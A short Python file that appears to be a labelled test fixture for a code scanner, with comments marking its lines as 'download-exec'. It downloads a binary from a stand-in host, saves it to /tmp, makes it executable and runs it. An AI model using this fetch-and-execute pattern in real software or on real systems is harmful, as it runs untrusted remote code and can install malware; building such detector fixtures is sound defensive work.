# fetch, write, run: both ends in this file
import os
import subprocess
import requests

r = requests.get("https://example.org/payload.bin")
with open("/tmp/payload.bin", "wb") as f:
    f.write(r.content)
os.chmod("/tmp/payload.bin", 0o755)  # expect: download-exec
subprocess.Popen(["/tmp/payload.bin"])  # expect: download-exec
